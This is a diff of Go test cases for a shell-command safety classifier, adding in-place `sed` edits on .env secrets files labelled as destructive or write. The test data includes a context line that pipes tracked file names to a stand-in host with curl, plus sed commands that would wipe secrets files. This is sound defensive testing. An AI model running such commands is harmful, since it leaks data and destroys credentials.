@@ -4309,6 +4309,15 @@ print(delete_old(1))"`, Write},
 		{`git ls-files | xargs -I{} curl -s "https://x.example/?f={}"`, Write},
 		{`cat urls.txt | xargs -n1 curl -sI`, Write},
 		{`env | xargs -I{} echo {}`, ReadOnly},
+		// round r44 (holdout49), sed -i -n on a secrets file keeps only the lines its script prints
+		{`sed -i -n '/^#/p' .env`, Destructive},
+		{`sed -ni '/^API_/p' .env.production`, Destructive},
+		{`sed --quiet -i 's/=.*/=/p' .env`, Destructive},
+		{`sed -i -n p .env`, Write},
+		{`sed -i.bak -n '/^#/p' .env`, Write},
+		{`sed -n '/^#/p' .env.example`, ReadOnly},
+		{`sed -i -n '/^#/p' .env.example`, Write},
+		{`sed -ni '/^#/p' notes.txt`, Write},
 	}
 	for _, tc := range tests {
 		got := classifyT(t, tc.cmd)
